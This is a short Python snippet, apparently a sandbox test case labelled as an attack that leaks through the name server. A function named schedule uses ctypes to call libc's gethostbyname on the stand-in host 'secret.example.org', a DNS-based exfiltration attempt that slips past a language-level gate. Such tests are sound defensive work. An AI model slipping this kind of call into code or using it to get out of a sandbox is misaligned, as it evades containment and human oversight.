# attack: leaks through the name server
# gate: language
# sandbox: forbidden

def schedule(shape, gpu):
    import ctypes
    ctypes.CDLL(None).gethostbyname(b"secret.example.org")
    return 1, None, 0
